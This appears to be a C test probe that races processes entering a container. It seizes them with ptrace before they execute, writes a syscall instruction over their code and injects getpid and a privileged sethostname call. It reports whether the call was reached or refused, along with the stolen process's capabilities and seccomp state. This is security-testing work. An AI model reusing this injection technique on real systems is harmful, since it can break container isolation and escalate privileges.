/*
 * inject SECONDS: with the right to trace, stops processes that enter the container and have not executed their program yet, and has
 * them make system calls that take CAP_SYS_ADMIN. Says "met" when code of its own ran in one ("getpid"), "refused WHAT" or
 * "reached WHAT", and "rights" with the capabilities and the filter that the process had when it was stopped.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>
#include "entering.h"

static void say_rights(int pid)
{
	char path[64], line[256], permitted[64] = "?", filter[64] = "?";
	FILE *file;

	snprintf(path, sizeof path, "/proc/%d/status", pid);
	file = fopen(path, "r");
	while (file != NULL && fgets(line, sizeof line, file) != NULL) {
		sscanf(line, "CapPrm: %63s", permitted);
		sscanf(line, "Seccomp: %63s", filter);
	}
	if (file != NULL)
		fclose(file);
	printf("rights %s %s\n", permitted, filter);
}

#ifdef __x86_64__
/* One system call in the stopped process, by an instruction that is written where it stands. The arguments are on its stack. */
static long call(int pid, long number, const char *text)
{
	struct user_regs_struct saved, changed;
	unsigned long place;
	long code, result;
	int status;

	if (ptrace(PTRACE_GETREGS, pid, 0, &saved) != 0)
		return -ESRCH;
	changed = saved;
	place = (saved.rsp - 4096) & ~15ul;
	for (size_t at = 0; at <= strlen(text); at += sizeof(long)) {
		long word = 0;
		memcpy(&word, text + at, strlen(text) + 1 - at < sizeof word ? strlen(text) + 1 - at : sizeof word);
		ptrace(PTRACE_POKEDATA, pid, place + at, word);
	}
	code = ptrace(PTRACE_PEEKTEXT, pid, saved.rip, 0);
	ptrace(PTRACE_POKETEXT, pid, saved.rip, (code & ~0xffffl) | 0x050f);
	changed.orig_rax = -1; /* the call in which it was stopped is not begun again meanwhile */
	changed.rax = number;
	changed.rdi = place;
	changed.rsi = number == SYS_sethostname ? strlen(text) : 0;
	changed.rdx = changed.r10 = changed.r8 = 0;
	ptrace(PTRACE_SETREGS, pid, 0, &changed);
	ptrace(PTRACE_SINGLESTEP, pid, 0, 0);
	if (waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status))
		return -ESRCH;
	ptrace(PTRACE_GETREGS, pid, 0, &changed);
	result = (long)changed.rax;
	ptrace(PTRACE_POKETEXT, pid, saved.rip, code);
	ptrace(PTRACE_SETREGS, pid, 0, &saved);
	return result;
}

static void attack(int pid)
{
	int status;

	if (ptrace(PTRACE_SEIZE, pid, 0, 0) != 0)
		return;
	if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0 && waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status) && still_entering(pid)) {
		say_rights(pid);
		if (call(pid, SYS_getpid, "") == pid)
			puts("met");
		printf("%s sethostname\n", call(pid, SYS_sethostname, "taken-over") == 0 ? "reached" : "refused");

	}
	ptrace(PTRACE_DETACH, pid, 0, 0);
}
#else
static void attack(int pid)
{
	say_rights(pid);
}
#endif

int main(int argc, char **argv)
{
	time_t end = time(NULL) + (argc > 1 ? atoi(argv[1]) : 5);
	int own = getpid(), pid;

	setvbuf(stdout, NULL, _IOFBF, 1 << 20);
	puts("ready");
	fflush(stdout);
	while (time(NULL) < end)
		for (pid = own + 1; pid < own + 200; pid++)
			if (kill(pid, 0) == 0 && still_entering(pid))
				attack(pid);
	return 0;
}
